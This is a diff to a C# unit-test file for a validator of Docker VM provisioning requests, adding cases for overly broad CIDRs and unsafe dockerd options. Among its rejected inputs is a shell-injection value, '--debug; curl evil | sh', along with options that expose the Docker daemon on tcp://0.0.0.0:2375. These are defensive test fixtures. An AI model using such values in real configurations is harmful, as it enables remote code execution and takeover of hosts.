@@ -1,4 +1,5 @@
 using System.Security.Cryptography;
+using DockerVm.Provisioning.Activities.Docker;
 using DockerVm.Provisioning.Callbacks;
 using DockerVm.Provisioning.Contracts;
 using DockerVm.Provisioning.Requests;
@@ -76,9 +77,14 @@ public sealed class ProvisionRequestValidatorTests
         ["cidr-second-bad-octet"] = r => r with { AllowedSourceCidrs = ["203.0.113.0/24", "300.1.1.1/32"] },
         ["cidr-prefix-too-long"] = r => r with { AllowedSourceCidrs = ["10.0.0.0/33"] },
         ["cidr-short-ipv4"] = r => r with { AllowedSourceCidrs = ["10"] },
-        ["cidr-ipv6-host-bits"] = r => r with { AllowedSourceCidrs = ["2001:db8::1/32"] },
+        ["cidr-ipv6"] = r => r with { AllowedSourceCidrs = ["2001:db8::/48"] },
+        ["cidr-ipv6-second"] = r => r with { AllowedSourceCidrs = ["203.0.113.0/24", "2001:db8::1"] },
+        ["cidr-wider-than-8"] = r => r with { AllowedSourceCidrs = ["203.0.113.0/24", "64.0.0.0/7"] },
+        ["cidr-two-slash-8s"] = r => r with { AllowedSourceCidrs = ["10.0.0.0/8", "11.0.0.0/8"] },
+        ["cidr-many-slash-9s"] = r => r with { AllowedSourceCidrs = [.. Enumerable.Range(0, 4).Select(i => $"{i * 64}.0.0.0/9")] },
         ["cidr-any-ipv4"] = r => r with { AllowedSourceCidrs = ["0.0.0.0/0"] },
         ["cidr-any-ipv6"] = r => r with { AllowedSourceCidrs = ["::/0"] },
+        ["cidr-any-ipv6-with-opt-in"] = r => r with { AllowedSourceCidrs = ["0.0.0.0/0", "::/0"], AllowAnySource = true },
         ["cidr-star"] = r => r with { AllowedSourceCidrs = ["*"] },
         ["cidr-internet"] = r => r with { AllowedSourceCidrs = ["Internet"] },
         ["cidr-any"] = r => r with { AllowedSourceCidrs = ["any"] },
@@ -87,7 +93,43 @@ public sealed class ProvisionRequestValidatorTests
         ["port-too-high"] = r => r with { DockerPort = 70000 },
         ["installer-undefined"] = r => r with { Installer = (DockerInstaller)7 },
         ["daemon-host-flag"] = r => r with { DaemonOptions = ["-H"] },
-        ["daemon-host-long"] = r => r with { DaemonOptions = ["--live-restore", "--host=tcp://0.0.0.0:2375"] },
+        ["daemon-combined-debug-host"] = r => r with { DaemonOptions = ["-DH=tcp://0.0.0.0:2375"] },
+        ["daemon-combined-debug-debug-host"] = r => r with { DaemonOptions = ["-DDH=tcp://0.0.0.0:2375"] },
+        ["daemon-combined-host-glued"] = r => r with { DaemonOptions = ["-DHtcp://0.0.0.0:2375"] },
+        ["daemon-host-separate-value"] = r => r with { DaemonOptions = ["--debug", "-H", "unix:///run/other.sock"] },
+        ["daemon-host-long-separate-value"] = r => r with { DaemonOptions = ["--host", "tcp://0.0.0.0:2375"] },
+        ["daemon-group"] = r => r with { DaemonOptions = ["-G=adm"] },
+        ["daemon-config-file"] = r => r with { DaemonOptions = ["--config-file=/tmp/daemon.json"] },
+        ["daemon-data-root"] = r => r with { DaemonOptions = ["--data-root=/mnt/docker"] },
+        ["daemon-live-restore"] = r => r with { DaemonOptions = ["--live-restore"] },
+        ["daemon-userns-remap"] = r => r with { DaemonOptions = ["--userns-remap=root"] },
+        ["daemon-icc"] = r => r with { DaemonOptions = ["--icc=true"] },
+        ["daemon-iptables-false"] = r => r with { DaemonOptions = ["--iptables=false"] },
+        ["daemon-insecure-registry"] = r => r with { DaemonOptions = ["--insecure-registry=registry.example.com"] },
+        ["daemon-metrics-addr"] = r => r with { DaemonOptions = ["--metrics-addr=0.0.0.0:9323"] },
+        ["daemon-unknown-long"] = r => r with { DaemonOptions = ["--bogus=1"] },
+        ["daemon-unknown-short"] = r => r with { DaemonOptions = ["-X"] },
+        ["daemon-combined-unknown"] = r => r with { DaemonOptions = ["-Dx"] },
+        ["daemon-not-on-allow-list"] = r => r with { DaemonOptions = ["--http-proxy=http://proxy.example.com:3128"] },
+        ["daemon-log-level-unknown"] = r => r with { DaemonOptions = ["--log-level=verbose"] },
+        ["daemon-log-level-without-value"] = r => r with { DaemonOptions = ["--debug", "--log-level"] },
+        ["daemon-log-level-eats-host"] = r => r with { DaemonOptions = ["--log-level", "-H=tcp://0.0.0.0:2375"] },
+        ["daemon-bool-not-a-bool"] = r => r with { DaemonOptions = ["--debug=yes"] },
+        ["daemon-positional"] = r => r with { DaemonOptions = ["--debug", "false"] },
+        ["daemon-double-dash"] = r => r with { DaemonOptions = ["--debug", "--"] },
+        ["daemon-triple-dash"] = r => r with { DaemonOptions = ["---debug"] },
+        ["daemon-repeated-different"] = r => r with { DaemonOptions = ["--log-level=warn", "-l", "info"] },
+        ["daemon-downloads-not-a-number"] = r => r with { DaemonOptions = ["--max-concurrent-downloads=0x10"] },
+        ["daemon-downloads-too-many"] = r => r with { DaemonOptions = ["--max-concurrent-downloads=1000"] },
+        ["daemon-registry-mirror-http"] = r => r with { DaemonOptions = ["--registry-mirror=http://mirror.example.com"] },
+        ["daemon-registry-mirror-credentials"] = r => r with { DaemonOptions = ["--registry-mirror=https://user:pw@mirror.example.com"] },
+        ["daemon-ulimit-soft-above-hard"] = r => r with { DaemonOptions = ["--default-ulimit=nofile=2048:1024"] },
+        ["daemon-ulimit-unknown-name"] = r => r with { DaemonOptions = ["--default-ulimit=as=1024"] },
+        ["daemon-label-reserved"] = r => r with { DaemonOptions = ["--label=com.docker.owner=me"] },
+        ["daemon-log-opt-token"] = r => r with { DaemonOptions = ["--log-opt=splunk-token=abc"] },
+        ["daemon-storage-driver-unknown"] = r => r with { DaemonOptions = ["-s", "devicemapper"] },
+        ["daemon-too-many"] = r => r with { DaemonOptions = [.. Enumerable.Repeat("--debug", 51)] },
+        ["daemon-host-long"] = r => r with { DaemonOptions = ["--debug", "--host=tcp://0.0.0.0:2375"] },
         ["daemon-tls-false"] = r => r with { DaemonOptions = ["--tls=false"] },
         ["daemon-tlsverify-false"] = r => r with { DaemonOptions = ["--tlsverify=false"] },
         ["daemon-shell-injection"] = r => r with { DaemonOptions = ["--debug; curl evil | sh"] },
@@ -188,9 +230,14 @@ public sealed class ProvisionRequestValidatorTests
     [InlineData("cidr-second-bad-octet", "allowedSourceCidrs[1]", "cidr-syntax")]
     [InlineData("cidr-prefix-too-long", "allowedSourceCidrs[0]", "cidr-syntax")]
     [InlineData("cidr-short-ipv4", "allowedSourceCidrs[0]", "cidr-syntax")]
-    [InlineData("cidr-ipv6-host-bits", "allowedSourceCidrs[0]", "cidr-host-bits")]
+    [InlineData("cidr-ipv6", "allowedSourceCidrs[0]", "cidr-ipv6-unsupported")]
+    [InlineData("cidr-ipv6-second", "allowedSourceCidrs[1]", "cidr-ipv6-unsupported")]
+    [InlineData("cidr-any-ipv6-with-opt-in", "allowedSourceCidrs[1]", "cidr-ipv6-unsupported")]
+    [InlineData("cidr-wider-than-8", "allowedSourceCidrs[1]", "cidr-too-broad")]
+    [InlineData("cidr-two-slash-8s", "allowedSourceCidrs", "cidr-too-broad")]
+    [InlineData("cidr-many-slash-9s", "allowedSourceCidrs", "cidr-too-broad")]
     [InlineData("cidr-any-ipv4", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
-    [InlineData("cidr-any-ipv6", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
+    [InlineData("cidr-any-ipv6", "allowedSourceCidrs[0]", "cidr-ipv6-unsupported")]
     [InlineData("cidr-star", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
     [InlineData("cidr-internet", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
     [InlineData("cidr-any", "allowedSourceCidrs[0]", "cidr-any-source-not-allowed")]
@@ -199,6 +246,42 @@ public sealed class ProvisionRequestValidatorTests
     [InlineData("port-too-high", "dockerPort", "docker-port-range")]
     [InlineData("installer-undefined", "installer", "installer-unknown")]
     [InlineData("daemon-host-flag", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-combined-debug-host", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-combined-debug-debug-host", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-combined-host-glued", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-host-separate-value", "daemonOptions[1]", "daemon-option-forbidden")]
+    [InlineData("daemon-host-long-separate-value", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-group", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-config-file", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-data-root", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-live-restore", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-userns-remap", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-icc", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-iptables-false", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-insecure-registry", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-metrics-addr", "daemonOptions[0]", "daemon-option-forbidden")]
+    [InlineData("daemon-unknown-long", "daemonOptions[0]", "daemon-option-not-allowed")]
+    [InlineData("daemon-unknown-short", "daemonOptions[0]", "daemon-option-not-allowed")]
+    [InlineData("daemon-combined-unknown", "daemonOptions[0]", "daemon-option-not-allowed")]
+    [InlineData("daemon-not-on-allow-list", "daemonOptions[0]", "daemon-option-not-allowed")]
+    [InlineData("daemon-log-level-unknown", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-log-level-without-value", "daemonOptions[1]", "daemon-option-value")]
+    [InlineData("daemon-log-level-eats-host", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-bool-not-a-bool", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-positional", "daemonOptions[1]", "daemon-option-format")]
+    [InlineData("daemon-double-dash", "daemonOptions[1]", "daemon-option-format")]
+    [InlineData("daemon-triple-dash", "daemonOptions[0]", "daemon-option-format")]
+    [InlineData("daemon-repeated-different", "daemonOptions[1]", "daemon-option-repeated")]
+    [InlineData("daemon-downloads-not-a-number", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-downloads-too-many", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-registry-mirror-http", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-registry-mirror-credentials", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-ulimit-soft-above-hard", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-ulimit-unknown-name", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-label-reserved", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-log-opt-token", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-storage-driver-unknown", "daemonOptions[0]", "daemon-option-value")]
+    [InlineData("daemon-too-many", "daemonOptions", "daemon-options-too-many")]
     [InlineData("daemon-host-long", "daemonOptions[1]", "daemon-option-forbidden")]
     [InlineData("daemon-tls-false", "daemonOptions[0]", "daemon-option-forbidden")]
     [InlineData("daemon-tlsverify-false", "daemonOptions[0]", "daemon-option-forbidden")]
@@ -314,7 +397,7 @@ public sealed class ProvisionRequestValidatorTests
         {
             DockerPort = 12376,
             Installer = DockerInstaller.DockerExtension,
-            DaemonOptions = ["--live-restore", "--log-driver=journald", "--default-ulimit=nofile=1024:2048"],
+            DaemonOptions = ["--log-driver=journald", "--default-ulimit=nofile=1024:2048"],
             Tags = new Dictionary<string, string> { ["env"] = "dev" },
             Certificates = new CertificateOptions { KeyAlgorithm = CertificateKeyAlgorithm.Rsa3072, ValidityDays = 30, IncludeLoopback = true },
             IdempotencyKey = "order-42:attempt.1",
@@ -324,7 +407,7 @@ public sealed class ProvisionRequestValidatorTests
         Assert.True(result.IsValid, string.Join("; ", result.Errors));
         Assert.Equal(12376, result.Value.DockerPort);
         Assert.Equal(DockerInstaller.DockerExtension, result.Value.Installer);
-        Assert.Equal(3, result.Value.DaemonOptions.Count);
+        Assert.Equal([.. ProvisionRequestValidator.DefaultDaemonOptions, "--log-driver=journald", "--default-ulimit=nofile=1024:2048"], result.Value.DaemonOptions);
         Assert.Equal("dev", result.Value.Tags["env"]);
         Assert.Equal(CertificateKeyAlgorithm.Rsa3072, result.Value.KeyAlgorithm);
         Assert.Equal(30, result.Value.CertificateValidityDays);
@@ -364,19 +447,194 @@ public sealed class ProvisionRequestValidatorTests
     [Fact]
     public void Validate_AnySourceWithExplicitOptIn_IsAcceptedInNsgSpelling()
     {
-        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["0.0.0.0/0", "::/0", "Any", "internet"], AllowAnySource = true });
+        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["0.0.0.0/0", "Any", "internet"], AllowAnySource = true });
 
         Assert.True(result.IsValid, string.Join("; ", result.Errors));
-        Assert.Equal(["0.0.0.0/0", "::/0", "*", "Internet"], result.Value.AllowedSourceCidrs);
+        Assert.Equal(["0.0.0.0/0", "*", "Internet"], result.Value.AllowedSourceCidrs);
     }
 
     [Fact]
-    public void Validate_SingleAddressesAndIpv6_AreAcceptedAndDeduplicated()
+    public void Validate_SingleAddresses_AreAcceptedAndDeduplicated()
     {
-        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["198.51.100.7", "2001:db8::/48", " 198.51.100.7 ", "10.0.0.0/8"] });
+        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["198.51.100.7", " 198.51.100.7 ", "10.0.0.0/9"] });
 
         Assert.True(result.IsValid, string.Join("; ", result.Errors));
-        Assert.Equal(["198.51.100.7", "2001:db8::/48", "10.0.0.0/8"], result.Value.AllowedSourceCidrs);
+        Assert.Equal(["198.51.100.7", "10.0.0.0/9"], result.Value.AllowedSourceCidrs);
+    }
+
+    [Fact]
+    public void Validate_TwoHalvesOfIpv4WithoutOptIn_BothRefusedAsTooBroad()
+    {
+        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["0.0.0.0/1", "128.0.0.0/1"] });
+
+        Assert.Equal(
+            [("allowedSourceCidrs[0]", "cidr-too-broad"), ("allowedSourceCidrs[1]", "cidr-too-broad")],
+            result.Errors.Select(e => (e.Field, e.Rule)));
+        Assert.All(result.Errors, e => Assert.Contains("/8", e.Message, StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void Validate_TwoHalvesOfIpv4WithOptIn_AreAccepted()
+    {
+        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["0.0.0.0/1", "128.0.0.0/1"], AllowAnySource = true });
+
+        Assert.True(result.IsValid, string.Join("; ", result.Errors));
+        Assert.Equal(["0.0.0.0/1", "128.0.0.0/1"], result.Value.AllowedSourceCidrs);
+    }
+
+    [Fact]
+    public void Validate_TwoHalvesOfIpv6_BothRefusedAsIpv6()
+    {
+        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["::/1", "8000::/1"], AllowAnySource = true });
+
+        Assert.Equal(
+            [("allowedSourceCidrs[0]", "cidr-ipv6-unsupported"), ("allowedSourceCidrs[1]", "cidr-ipv6-unsupported")],
+            result.Errors.Select(e => (e.Field, e.Rule)));
+    }
+
+    [Theory]
+    [InlineData("10.0.0.0/8", "10.1.0.0/16", "10.2.3.4")]
+    [InlineData("10.0.0.0/9", "10.128.0.0/9")]
+    [InlineData("10.0.0.0/8", "10.0.0.0/8", "10.255.255.255")]
+    public void Validate_OverlappingNetworksUpToOneSlash8_AreAccepted(params string[] cidrs)
+    {
+        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = cidrs });
+
+        Assert.True(result.IsValid, string.Join("; ", result.Errors));
+    }
+
+    [Fact]
+    public void Validate_OneAddressMoreThanASlash8_RefusedNamingTheCount()
+    {
+        var result = CreateValidator().Validate(Valid with { AllowedSourceCidrs = ["10.0.0.0/8", "11.0.0.0/32"] });
+
+        var error = Assert.Single(result.Errors);
+        Assert.Equal(("allowedSourceCidrs", "cidr-too-broad"), (error.Field, error.Rule));
+        Assert.Contains("16,777,217", error.Message, StringComparison.Ordinal);
+        Assert.Contains("allowAnySource", error.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Validate_EmptyDaemonOptions_AreTheHardenedDefaults()
+    {
+        var result = CreateValidator().Validate(Valid with { DaemonOptions = [] });
+
+        Assert.True(result.IsValid, string.Join("; ", result.Errors));
+        Assert.Equal(ProvisionRequestValidator.DefaultDaemonOptions, result.Value.DaemonOptions);
+    }
+
+    [Fact]
+    public void Validate_DaemonOptionsInEveryDockerdSpelling_AreRenderedCanonicallyAfterTheDefaults()
+    {
+        var result = CreateValidator().Validate(Valid with
+        {
+            DaemonOptions =
+            [
+                "-Dl", "warn", "--max-concurrent-downloads", "5", "-s=overlay2", "--log-opt", "max-size=10m", "--log-opt=max-file=3",
+                "--experimental=false", "-lwarn", "--dns=1.1.1.1", "--dns", "1.0.0.1", "--userland-proxy=0",
+            ],
+        });
+
+        Assert.True(result.IsValid, string.Join("; ", result.Errors));
+        Assert.Equal(
+            [
+                .. ProvisionRequestValidator.DefaultDaemonOptions,
+                "--debug", "--log-level=warn", "--max-concurrent-downloads=5", "--storage-driver=overlay2", "--log-opt=max-size=10m",
+                "--log-opt=max-file=3", "--experimental=false", "--dns=1.1.1.1", "--dns=1.0.0.1", "--userland-proxy=false",
+            ],
+            result.Value.DaemonOptions);
+    }
+
+    [Theory]
+    [InlineData("--debug")]
+    [InlineData("-D")]
+    [InlineData("--debug=false")]
+    [InlineData("-D=false")]
+    [InlineData("--log-level=debug")]
+    [InlineData("-l=error")]
+    [InlineData("-lfatal")]
+    [InlineData("--log-level", "info")]
+    [InlineData("-l", "warn")]
+    [InlineData("--log-format=json")]
+    [InlineData("--raw-logs")]
+    [InlineData("--log-driver=journald")]
+    [InlineData("--log-driver=local")]
+    [InlineData("--log-opt=max-size=10m")]
+    [InlineData("--log-opt=mode=non-blocking")]
+    [InlineData("--default-ulimit=nofile=1024:2048")]
+    [InlineData("--default-ulimit=memlock=-1:-1")]
+    [InlineData("--default-ulimit=nproc=512")]
+    [InlineData("--max-concurrent-downloads=10")]
+    [InlineData("--max-concurrent-uploads=3")]
+    [InlineData("--max-download-attempts=5")]
+    [InlineData("--shutdown-timeout=30")]
+    [InlineData("--registry-mirror=https://mirror.gcr.io")]
+    [InlineData("--registry-mirror=https://10.0.0.4:5000/")]
+    [InlineData("--storage-driver=overlay2")]
+    [InlineData("-s", "btrfs")]
+    [InlineData("--experimental")]
+    [InlineData("--mtu=1450")]
+    [InlineData("--dns=1.1.1.1")]
+    [InlineData("--dns=2606:4700:4700::1111")]
+    [InlineData("--dns-search=corp.example.com")]
+    [InlineData("--dns-opt=ndots:2")]
+    [InlineData("--label=env=dev")]
+    [InlineData("--default-address-pool=base=172.80.0.0/16,size=24")]
+    [InlineData("--bip=172.26.0.1/16")]
+    [InlineData("--fixed-cidr=172.26.0.0/24")]
+    [InlineData("--ip=127.0.0.1")]
+    [InlineData("--userland-proxy=false")]
+    [InlineData("--init")]
+    [InlineData("--default-shm-size=128m")]
+    [InlineData("--default-ipc-mode=private")]
+    [InlineData("--exec-opt=native.cgroupdriver=systemd")]
+    [InlineData("--debug", "--debug")]
+    public void Validate_AllowedDaemonOption_IsAccepted(params string[] options)
+    {
+        var result = CreateValidator().Validate(Valid with { DaemonOptions = options });
+
+        Assert.True(result.IsValid, string.Join("; ", result.Errors));
+    }
+
+    [Fact]
+    public void Validate_CombinedShortFlagsHidingAListener_NameTheHostFlagAndTheRule()
+    {
+        var result = CreateValidator().Validate(Valid with { DaemonOptions = ["--log-level=warn", "-DH=tcp://0.0.0.0:2375"] });
+
+        var error = Assert.Single(result.Errors);
+        Assert.Equal(("daemonOptions[1]", "daemon-option-forbidden"), (error.Field, error.Rule));
+        Assert.Contains("'-H' (--host)", error.Message, StringComparison.Ordinal);
+        Assert.Contains("--tlsverify", error.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Validate_RefusedDaemonOptionValue_MessageDoesNotEchoTheValue()
+    {
+        var result = CreateValidator().Validate(Valid with { DaemonOptions = ["--log-opt=splunk-token=S3cr3tT0ken", "--log-level=S3cr3tLevel"] });
+
+        Assert.Equal(2, result.Errors.Count);
+        Assert.All(result.Errors, e => Assert.DoesNotContain("S3cr3t", e.Message, StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData(DockerInstaller.CustomScript)]
+    [InlineData(DockerInstaller.DockerExtension)]
+    public void Validate_DaemonOptions_WhatReachesDockerdIsWhatWasValidated(DockerInstaller installer)
+    {
+        var spec = CreateValidator().Validate(Valid with { Installer = installer, DaemonOptions = ["-Dl", "warn", "--log-opt", "max-size=10m"] }).Value!;
+        string[] expected = [.. ProvisionRequestValidator.DefaultDaemonOptions, "--debug", "--log-level=warn", "--log-opt=max-size=10m"];
+
+        if (installer == DockerInstaller.CustomScript)
+        {
+            var script = DockerInstallMaterial.BuildInstallScript("ca", "cert", "key", spec.DockerPort, spec.DaemonOptions);
+            var execStart = script.Split('\n').Last(l => l.StartsWith("ExecStart=/usr/bin/dockerd", StringComparison.Ordinal));
+            Assert.EndsWith($"-H unix:// -H tcp://0.0.0.0:{spec.DockerPort} {string.Join(' ', expected)}", execStart, StringComparison.Ordinal);
+        }
+        else
+        {
+            using var settings = System.Text.Json.JsonDocument.Parse(DockerInstallMaterial.DockerExtensionSettings(spec.DockerPort, spec.DaemonOptions, "AzureCloud").ToString());
+            Assert.Equal(expected, settings.RootElement.GetProperty("docker").GetProperty("options").EnumerateArray().Select(o => o.GetString()));
+        }
     }
 
     [Theory]
